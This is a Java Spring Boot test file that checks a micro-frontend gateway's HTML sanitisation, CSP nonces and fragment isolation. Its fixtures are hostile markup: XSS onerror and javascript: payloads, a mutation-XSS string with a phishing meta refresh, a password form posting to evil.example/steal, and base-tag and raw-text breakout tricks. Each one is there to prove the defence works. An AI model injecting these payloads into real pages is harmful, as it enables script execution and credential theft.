package io.mosaic.gateway.handler;

import static org.assertj.core.api.Assertions.assertThat;

import io.mosaic.gateway.support.TestOrigin;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webtestclient.autoconfigure.AutoConfigureWebTestClient;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;

/**
 * What a fragment's HTML can do to the page, tried by the real gateway against real origins that
 * answer hostile markup: the page's CSP and its per-response nonce, scripts by trust level, and
 * every way out of a box we know of.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@AutoConfigureWebTestClient
class PageSecurityTest {

    static final String SCRIPTED = """
            <p class="scripted">hello</p><script>window.inline=1</script>
            <img src="/x.png" onerror="window.onerr=1"><a href=" JAVA\tSCRIPT:alert(1)">js</a><a href="/api/ok">ok</a>""";

    /** The confirmed mutation XSS of the issue: a nested form in mtext, mglyph's style read as text by jsoup, as markup by a browser. */
    static final String MXSS = "<form><math><mtext></form><form><mglyph><style></math></div>"
            + "<meta http-equiv=\"refresh\" content=\"5;url=http://127.0.0.1:1/phish\">"
            + "<div class=\"mosaic-fragment\" data-fragment=\"victim\" data-fragment-state=\"ok\">FORGED</div>"
            + "<img src=x onerror=\"alert(1)\"><div data-fragment-late=\"late\">HIJACKED</div>";

    static final TestOrigin ORIGIN = new TestOrigin()
            .html("/scripted", SCRIPTED)
            .html("/untrusted", SCRIPTED + """
                    <iframe src="https://evil.example/"></iframe><object data="/x.swf"></object><style>p{}</style>
                    <form action="https://evil.example/steal" method="post"><input name="password"></form>
                    <form action="/api/search"><input name="q"></form><table><tr><td>cell</td></tr></table>""")
            .html("/plaintext", "<p>before</p><plaintext><div data-fragment=\"forged\">")
            .html("/noscript-comment", "<p>n</p><noscript><!-- </noscript><div data-fragment=\"forged\"> --></noscript>")
            .html("/noscript-style", "<p>n</p><noscript><style></noscript><img src=x onerror=\"window.pwned=1\"></style></noscript>")
            .html("/rawtext", "<p>r</p><xmp></div><div data-fragment=\"forged\"></xmp><noembed></div></noembed>"
                    + "<noframes><p title=\"</noframes><div data-fragment=forged>\">z</noframes>")
            .html("/template", "<p>t</p><template><div class=\"mosaic-fragment\" data-fragment=\"forged\"></div></template>")
            .html("/stray", "<p>s</p></div></div></div></main></aside><div class=\"mosaic-fragment x\" data-fragment=\"forged\" "
                    + "data-fragment-late=\"late\" data-fragment-pending=\"late\" nonce=\"guess\">inside</div>")
            .html("/head", "<html><head><script>window.head=1</script><link rel=\"icon\" href=\"/evil.ico\">"
                    + "<meta name=\"referrer\" content=\"unsafe-url\"><base href=\"https://evil.example/\"></head>"
                    + "<body><p class=\"head-body\">body</p></body></html>")
            .html("/late", "<p class=\"late-content\">late</p><base href=\"https://evil.example/\"><meta name=\"referrer\" content=\"unsafe-url\"><link rel=\"icon\" href=\"/evil.ico\">")
            .html("/mxss", MXSS)
            .html("/assets/app.js", "window.app=1");

    static final String INTEGRITY = "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC";

    @DynamicPropertySource
    static void manifest(DynamicPropertyRegistry registry) throws Exception {
        Path file = Files.createTempFile("manifest", ".yaml");
        Files.writeString(file, """
                version: 1
                defaults: {timeout: 2s}
                fragments:
                  - name: standard
                    team: t
                    url: "%1$s/scripted"
                    proxy: [/api]
                    assets:
                      css: [/assets/app.css]
                      js: [{path: /assets/app.js, integrity: "%2$s"}]
                  - {name: trusted, team: t, url: "%1$s/scripted", trust: trusted}
                  - {name: untrusted, team: t, url: "%1$s/untrusted", trust: untrusted, proxy: [/api]}
                  - {name: plaintext, team: t, url: "%1$s/plaintext"}
                  - {name: noscript-comment, team: t, url: "%1$s/noscript-comment"}
                  - {name: noscript-style, team: t, url: "%1$s/noscript-style"}
                  - {name: rawtext, team: t, url: "%1$s/rawtext"}
                  - {name: template, team: t, url: "%1$s/template"}
                  - {name: stray, team: t, url: "%1$s/stray"}
                  - {name: head, team: t, url: "%1$s/head", trust: trusted}
                  - {name: late, team: t, url: "%1$s/late", async: true}
                  - {name: fallback, team: t, url: "%1$s/missing", fallback: "<p onclick=\\"x()\\">fb</p><script>y()</script>"}
                  - {name: mxss-standard, team: t, url: "%1$s/mxss"}
                  - {name: mxss-trusted, team: t, url: "%1$s/mxss", trust: trusted}
                  - {name: mxss-fallback, team: t, url: "%1$s/missing", fallback: %3$s}
                pages:
                  - {path: /trust, layout: admin, slots: {header: standard, main: [trusted, untrusted], aside: [fallback]}}
                  - path: /hostile
                    layout: admin
                    slots:
                      header: head
                      nav: [plaintext, noscript-comment, noscript-style]
                      main: [rawtext, template, stray]
                      aside: [late]
                  - {path: /mxss, layout: admin, slots: {main: [mxss-standard, mxss-trusted], aside: [mxss-fallback, late]}}
                """.formatted(ORIGIN.url(""), INTEGRITY, json(MXSS)));
        registry.add("mosaic.manifest", file::toString);
    }

    /** {@code value} as a JSON string, which YAML reads as a double-quoted scalar. */
    private static String json(String value) {
        return "\"" + value.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    @AfterAll
    static void stop() {
        ORIGIN.close();
    }

    @Autowired
    WebTestClient web;

    private EntityExchangeResult<String> get(String path) {
        return web.mutate().responseTimeout(Duration.ofSeconds(10)).build()
                .get().uri(path).exchange().expectBody(String.class).returnResult();
    }

    private static String nonceOf(EntityExchangeResult<String> result) {
        String csp = result.getResponseHeaders().getFirst("Content-Security-Policy");
        assertThat(csp).as("Content-Security-Policy").isNotNull();
        Matcher m = Pattern.compile("script-src 'nonce-([A-Za-z0-9+/]{22}==)' 'strict-dynamic'").matcher(csp);
        assertThat(m.find()).as(csp).isTrue();
        return m.group(1);
    }

    @Test
    void everyPageHasAContentSecurityPolicyWithAFreshNonceAndTheSecurityHeaders() {
        EntityExchangeResult<String> first = get("/trust");
        EntityExchangeResult<String> second = get("/trust");
        String csp = first.getResponseHeaders().getFirst("Content-Security-Policy");
        assertThat(csp).contains("object-src 'none'", "base-uri 'none'", "frame-ancestors 'self'", "form-action 'self'",
                "default-src 'self'").doesNotContain("unsafe-eval").doesNotContainPattern("script-src[^;]*unsafe-inline");
        assertThat(nonceOf(first)).isNotEqualTo(nonceOf(second));
        assertThat(first.getResponseHeaders().getFirst("Referrer-Policy")).isEqualTo("strict-origin-when-cross-origin");
        assertThat(first.getResponseHeaders().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
    }

    @Test
    void everyScriptOnThePageCarriesThisResponsesNonceAndNoMarkerLeaks() {
        for (String path : new String[] {"/trust", "/hostile"}) {
            EntityExchangeResult<String> result = get(path);
            String nonce = nonceOf(result);
            Document page = Jsoup.parse(result.getResponseBody());
            assertThat(page.select("script")).as(path).isNotEmpty();
            for (Element script : page.select("script")) {
                assertThat(script.attr("nonce")).as(path + ": " + script.outerHtml()).isEqualTo(nonce);
            }
            assertThat(result.getResponseBody()).doesNotContain("mosaic-nonce-");
        }
    }

    @Test
    void declaredAssetsLoadFromTheHeadWithTheNonceAndSubresourceIntegrity() {
        EntityExchangeResult<String> result = get("/trust");
        Document page = Jsoup.parse(result.getResponseBody());
        Element script = page.head().selectFirst("script[src=/fragments/standard/assets/app.js]");
        assertThat(script).isNotNull();
        assertThat(script.attr("nonce")).isEqualTo(nonceOf(result));
        assertThat(script.attr("integrity")).isEqualTo(INTEGRITY);
        assertThat(script.attr("crossorigin")).isEqualTo("anonymous");
        Element css = page.head().selectFirst("link[href=/fragments/standard/assets/app.css]");
        assertThat(css.hasAttr("integrity")).isFalse();
    }

    @Test
    void aStandardFragmentLosesInlineScriptsEventHandlersAndScriptUrls() {
        Document page = Jsoup.parse(get("/trust").getResponseBody());
        Element box = page.selectFirst("[data-fragment=standard]");
        assertThat(box.select(".scripted").text()).isEqualTo("hello");
        assertThat(box.select("script")).isEmpty();
        assertThat(box.select("img").attr("src")).isEqualTo("/fragments/standard/x.png");
        assertThat(box.select("img").hasAttr("onerror")).isFalse();
        assertThat(box.select("a").eachAttr("href")).containsExactly("/fragments/standard/api/ok");
        // The fallback is the team's markup too.
        Element fallback = page.selectFirst("[data-fragment=fallback]");
        assertThat(fallback.attr("data-fragment-state")).isEqualTo("fallback");
        assertThat(fallback.html()).isEqualTo("<p>fb</p>");
    }

    @Test
    void aTrustedFragmentsInlineScriptsRunWithTheNonce() {
        EntityExchangeResult<String> result = get("/trust");
        Element box = Jsoup.parse(result.getResponseBody()).selectFirst("[data-fragment=trusted]");
        assertThat(box.select("script").html()).isEqualTo("window.inline=1");
        assertThat(box.select("script").attr("nonce")).isEqualTo(nonceOf(result));
        assertThat(box.select("img").attr("onerror")).isEqualTo("window.onerr=1");
    }

    @Test
    void anUntrustedFragmentIsCleanedWithTheSafelist() {
        Element box = Jsoup.parse(get("/trust").getResponseBody()).selectFirst("[data-fragment=untrusted]");
        assertThat(box.select(".scripted").text()).isEqualTo("hello");
        assertThat(box.select("script, iframe, object, style, [onerror]")).isEmpty();
        assertThat(box.select("a").eachAttr("href")).containsExactly("/fragments/untrusted/api/ok");
        assertThat(box.select("form").eachAttr("action")).containsExactly("/fragments/untrusted/api/search");
        // The form that posted off-origin is gone; its field stays, posting nowhere.
        assertThat(box.select("input").eachAttr("name")).containsExactly("password", "q");
        assertThat(box.select("td").text()).isEqualTo("cell");
    }

    @Test
    void noFragmentClosesItsBoxOrOpensAForgedOne() {
        String whole = get("/hostile").getResponseBody();
        // The gateway's own Server-Timing comment follows </html>; no comment of a fragment's may remain before it.
        String html = whole.substring(0, whole.lastIndexOf("</html>"));
        assertThat(html).doesNotContain("forged").doesNotContainIgnoringCase("<plaintext")
                .doesNotContain("onerror").doesNotContain("<!--").doesNotContain("nonce=\"guess\"");
        Document page = Jsoup.parse(html);
        assertThat(page.select("nav.mosaic-nav > [data-fragment]").eachAttr("data-fragment"))
                .containsExactly("plaintext", "noscript-comment", "noscript-style");
        assertThat(page.select("main.mosaic-main > [data-fragment]").eachAttr("data-fragment"))
                .containsExactly("rawtext", "template", "stray");
        assertThat(page.select("[data-fragment=plaintext]").text()).isEqualTo("before");
        // The stray end tags were dropped by the parse; the gateway's markers were stripped.
        Element stray = page.selectFirst("[data-fragment=stray]");
        assertThat(stray.select("> div").eachAttr("class")).containsExactly("x");
        assertThat(stray.select("> div").select("[data-fragment-late], [data-fragment-pending], [data-fragment], .mosaic-fragment, [nonce]")).isEmpty();
        assertThat(page.select("[data-fragment-pending]").eachAttr("data-fragment-pending")).containsExactly("late");
        assertThat(page.select("[data-fragment-late]").eachAttr("data-fragment-late")).containsExactly("late");
    }

    @Test
    void theReportedMutationXssStaysInItsBoxAsAStandardOrTrustedAnswerAndAsAFallback() {
        String html = get("/mxss").getResponseBody();
        assertThat(html).doesNotContain("FORGED").doesNotContain("HIJACKED").doesNotContain("mglyph").doesNotContain("http-equiv");
        Document page = Jsoup.parse(html);
        assertThat(page.select("main.mosaic-main > [data-fragment]").eachAttr("data-fragment")).containsExactly("mxss-standard", "mxss-trusted");
        assertThat(page.select("aside.mosaic-aside > [data-fragment]").eachAttr("data-fragment")).containsExactly("mxss-fallback", "late");
        assertThat(page.selectFirst("[data-fragment=mxss-fallback]").attr("data-fragment-state")).isEqualTo("fallback");
        assertThat(page.select("[data-fragment]").eachAttr("data-fragment"))
                .containsExactly("mxss-standard", "mxss-trusted", "mxss-fallback", "late", "late");
        assertThat(page.select("[data-fragment-late]").eachAttr("data-fragment-late")).containsExactly("late");
        assertThat(page.select("meta[http-equiv], [onerror]")).isEmpty();
    }

    @Test
    void aFragmentCannotWriteIntoTheHead() {
        Document page = Jsoup.parse(get("/hostile").getResponseBody());
        assertThat(page.head().select("script, base, meta[name=referrer], link[rel=icon]")).isEmpty();
        assertThat(page.select("base, meta[name=referrer], link[rel=icon]")).isEmpty();
        Element box = page.selectFirst("[data-fragment=head]");
        // A trusted fragment's script from its document's head runs in its box.
        assertThat(box.select("script").html()).isEqualTo("window.head=1");
        assertThat(box.select(".head-body").text()).isEqualTo("body");
    }

    @Test
    void theAsyncMoverLooksUpNothingAFragmentCanDefine() {
        Document page = Jsoup.parse(get("/hostile").getResponseBody());
        String mover = page.selectFirst("[data-fragment-late=late] + script").html();
        assertThat(mover).contains("Document.prototype.querySelector", "[data-fragment-pending=\"late\"]")
                .doesNotContain("getElementById").doesNotContain("currentScript").doesNotContain("window.")
                .doesNotContain("document.querySelector");
    }
}
